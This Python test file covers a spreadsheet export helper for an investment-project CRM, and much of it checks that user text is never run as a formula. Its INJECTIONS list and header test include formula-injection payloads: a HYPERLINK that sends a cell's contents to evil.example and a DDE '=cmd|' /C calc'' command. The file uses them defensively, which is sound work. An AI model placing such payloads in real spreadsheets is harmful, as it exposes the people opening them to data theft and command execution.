"""The xlsx helper: what leaders expect of a sheet, and user text never run as a formula."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from crm.reports.xlsx import CellMark, Column, XlsxBook, is_formula_like, write_csv_safe

COLUMNS = [
    Column("name", "项目名称", width=30),
    Column("planned", "投资总额", "money_wan"),
    Column("planned_yi", "投资总额", "money_yi"),
    Column("jobs", "带动就业", "int"),
    Column("signed_on", "签约时间", "date"),
    Column("updated_at", "最近更新", "datetime"),
    Column("rate", "开工率", "percent"),
    Column("notes", "备注", wrap=True),
]
TITLE = "2026-11-16 至 2026-11-22 重点项目"
INJECTIONS = [
    "=1+1",
    "+SUM(A1)",
    "-2+3",
    "@cmd",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "#N/A",
]


def _weekly_book(rows: list[list[object]]) -> openpyxl.Workbook:
    buffer = io.BytesIO()
    with XlsxBook(buffer) as book:
        sheet = book.sheet("重点项目", COLUMNS, title_row=TITLE, serial_column="序号")
        for row in rows:
            sheet.append(row)
        summary = book.sheet("按阶段", [Column("stage", "阶段"), Column("n", "项目数", "int")])
        for stage, count in [("签约", 12), ("开工", 7), ("投产", 3)]:
            summary.append([stage, count])
        book.bar_chart(summary, category="stage", values=["n"], title="按阶段")
    return openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))


ROW = [
    "年产10万台挖掘机项目",
    Decimal("123456.78"),
    Decimal("12.345678"),
    1200,
    date(2026, 11, 18),
    datetime(2026, 11, 20, 1, 30, tzinfo=UTC),
    Decimal("0.25"),
    "跟进中",
]


def test_sheets_have_title_row_then_header_with_serial_and_units() -> None:
    wb = _weekly_book([ROW, ROW])

    assert wb.sheetnames == ["重点项目", "按阶段"]
    ws = wb["重点项目"]
    assert ws["A1"].value == TITLE
    assert ws["A1"].font.bold
    headers = [c.value for c in ws[2]]
    assert headers == [
        "序号",
        "项目名称",
        "投资总额(万元)",
        "投资总额(亿元)",
        "带动就业",
        "签约时间",
        "最近更新",
        "开工率",
        "备注",
    ]
    for cell in ws[2]:
        assert cell.font.bold
        assert cell.fill.fill_type == "solid"
        assert cell.alignment.wrap_text
    assert [ws.cell(row, 1).value for row in (3, 4)] == [1, 2]


def test_header_is_frozen_filtered_and_repeated_when_printed() -> None:
    ws = _weekly_book([ROW, ROW, ROW])["重点项目"]

    assert ws.freeze_panes == "A3"
    assert ws.auto_filter.ref == "A2:I5"
    assert ws.page_setup.orientation == "landscape"
    assert str(ws.page_setup.paperSize) == "9"  # A4
    assert ws.page_setup.fitToWidth == 1
    assert ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$1:$2"


def test_columns_get_sensible_widths() -> None:
    ws = _weekly_book([ROW])["重点项目"]

    assert ws.column_dimensions["B"].width == 30  # given
    assert 12 <= ws.column_dimensions["C"].width <= 30  # money, from kind and header
    assert ws.column_dimensions["F"].width >= 10  # a date fits


def test_amounts_are_numbers_with_thousands_separators_and_dates_are_dates() -> None:
    ws = _weekly_book([ROW])["重点项目"]
    _name, planned, planned_yi, jobs, signed, updated, rate, notes = (
        ws.cell(3, c) for c in range(2, 10)
    )

    assert planned.value == pytest.approx(123456.78)
    assert planned.number_format == "#,##0.00"
    assert planned_yi.value == pytest.approx(12.345678)
    assert planned_yi.number_format == "#,##0.00"
    assert jobs.value == 1200
    assert jobs.number_format == "#,##0"
    assert signed.is_date
    assert signed.value == datetime(2026, 11, 18)
    assert signed.number_format == "yyyy-mm-dd"
    assert updated.is_date
    assert updated.value == datetime(2026, 11, 20, 9, 30)  # shown in Asia/Shanghai
    assert rate.value == pytest.approx(0.25)
    assert rate.number_format == "0.0%"
    assert notes.alignment.wrap_text


def test_rows_can_be_mappings_and_leave_missing_cells_empty() -> None:
    buffer = io.BytesIO()
    with XlsxBook(buffer) as book:
        sheet = book.sheet("清单", COLUMNS)
        sheet.append({"name": "项目A", "jobs": 5})
    ws = openpyxl.load_workbook(buffer).active

    assert [c.value for c in ws[2]][:4] == ["项目A", None, None, 5]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:H2"
    assert ws.print_title_rows == "$1:$1"


@pytest.mark.parametrize("text", INJECTIONS)
def test_formula_like_user_text_is_stored_as_plain_text(text: str) -> None:
    buffer = io.BytesIO()
    with XlsxBook(buffer) as book:
        sheet = book.sheet("清单", COLUMNS)
        sheet.append([text, text, None, text])  # also in number columns
    ws = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active

    for cell in (ws["A2"], ws["B2"], ws["D2"]):
        assert cell.data_type == "s"
        assert cell.value == text
        assert cell.quotePrefix  # Excel keeps it text even when the cell is edited
    with zipfile.ZipFile(buffer) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_title_and_headers_echoing_user_text_are_neutralised_too() -> None:
    buffer = io.BytesIO()
    with XlsxBook(buffer) as book:
        book.sheet("台账", [Column("a", "=cmd|' /C calc'!A0")], title_row="=1+1.xlsx")
    ws = openpyxl.load_workbook(buffer).active

    for cell in (ws["A1"], ws["A2"]):
        assert cell.data_type == "s"
        assert cell.quotePrefix
    assert ws["A2"].value == "=cmd|' /C calc'!A0"


def test_ordinary_text_is_not_flagged_and_control_characters_are_dropped() -> None:
    buffer = io.BytesIO()
    with XlsxBook(buffer) as book:
        book.sheet("清单", COLUMNS).append(["项目\x00A\x07 <&>", None, None, None])
    cell = openpyxl.load_workbook(buffer).active["A2"]

    assert cell.value == "项目A <&>"
    assert not cell.quotePrefix


def test_is_formula_like() -> None:
    assert all(is_formula_like(text) for text in INJECTIONS)
    assert not any(is_formula_like(text) for text in ["", "项目", "1+1", "a=b", "2026-11-16"])


def test_bar_chart_references_the_data_rows() -> None:
    buffer = io.BytesIO()
    with XlsxBook(buffer) as book:
        summary = book.sheet("按阶段", [Column("stage", "阶段"), Column("n", "项目数", "int")])
        for stage, count in [("签约", 12), ("开工", 7), ("投产", 3)]:
            summary.append([stage, count])
        chart = book.bar_chart(summary, category="stage", values=["n"], title="按阶段")
    assert chart is not None
    with zipfile.ZipFile(buffer) as archive:
        chart_xml = archive.read("xl/charts/chart1.xml").decode()
    assert "<f>'按阶段'!B1</f>" in chart_xml  # the series is named by its header
    assert "<f>'按阶段'!$B$2:$B$4</f>" in chart_xml
    assert "<f>'按阶段'!$A$2:$A$4</f>" in chart_xml
    assert openpyxl.load_workbook(buffer)["按阶段"]._charts


def test_no_chart_without_data_and_empty_sheet_still_filters_header() -> None:
    buffer = io.BytesIO()
    with XlsxBook(buffer) as book:
        sheet = book.sheet("停滞项目", COLUMNS, title_row=TITLE)
        assert book.bar_chart(sheet, category="name", values=["planned"], title="x") is None
    ws = openpyxl.load_workbook(buffer).active

    assert ws.max_row == 2
    assert ws.auto_filter.ref == "A2:H2"


def test_marked_cells_are_filled() -> None:
    buffer = io.BytesIO()
    with XlsxBook(buffer) as book:
        sheet = book.sheet("台账", COLUMNS)
        marks = {"planned": CellMark("error"), "jobs": CellMark("warning"), "notes": CellMark()}
        sheet.append(["项目", "abc", None, 3], marks=marks)
    ws = openpyxl.load_workbook(buffer).active

    assert ws["B2"].fill.fgColor.rgb.endswith("FFC7CE")
    assert ws["D2"].fill.fgColor.rgb.endswith("FFEB9C")
    assert ws["H2"].fill.fgColor.rgb.endswith("FFC7CE")  # an empty cell can be marked
    assert ws["A2"].fill.fill_type is None


def test_english_book_labels_units_in_english() -> None:
    buffer = io.BytesIO()
    with XlsxBook(buffer, lang="en") as book:
        book.sheet("Key projects", [Column("a", "Planned investment", "money_yi")])
    assert openpyxl.load_workbook(buffer).active["A1"].value == "Planned investment(100M CNY)"


def test_sheet_titles_are_made_valid_and_unique() -> None:
    buffer = io.BytesIO()
    with XlsxBook(buffer) as book:
        first = book.sheet("按园区/区县", COLUMNS)
        second = book.sheet("按园区/区县", COLUMNS)
    assert (first.title, second.title) == ("按园区_区县", "按园区_区县 (2)")
    assert openpyxl.load_workbook(buffer).sheetnames == ["按园区_区县", "按园区_区县 (2)"]


def test_a_path_is_written_whole_or_not_at_all(tmp_path: Path) -> None:
    target = tmp_path / "weekly.xlsx"
    with pytest.raises(RuntimeError), XlsxBook(target) as book:
        book.sheet("清单", COLUMNS).append(ROW)
        raise RuntimeError("database went away")
    assert list(tmp_path.iterdir()) == []

    with XlsxBook(target) as book:
        book.sheet("清单", COLUMNS).append(ROW)
    assert [p.name for p in tmp_path.iterdir()] == ["weekly.xlsx"]
    assert openpyxl.load_workbook(target).active["A2"].value == ROW[0]


def test_misuse_is_refused() -> None:
    book = XlsxBook(io.BytesIO())
    sheet = book.sheet("清单", COLUMNS[:2])
    with pytest.raises(ValueError, match="3 values for 2 columns"):
        sheet.append([1, 2, 3])
    book.save()
    with pytest.raises(RuntimeError):
        sheet.append(["late"])
    with pytest.raises(ValueError, match="at least one sheet"):
        XlsxBook(io.BytesIO()).save()


def test_csv_export_prefixes_formula_like_text() -> None:
    stream = io.StringIO(newline="")
    count = write_csv_safe(
        stream,
        ["项目名称", "投资总额(万元)", "签约时间"],
        [["=1+1", Decimal("-5.5"), date(2026, 1, 2)], ["项目B", 3, None], ["@cmd", "-2+3", "ok"]],
    )
    lines = stream.getvalue().splitlines()

    assert count == 3
    assert lines == [
        "项目名称,投资总额(万元),签约时间",
        "'=1+1,-5.5,2026-01-02",
        "项目B,3,",
        "'@cmd,'-2+3,ok",
    ]
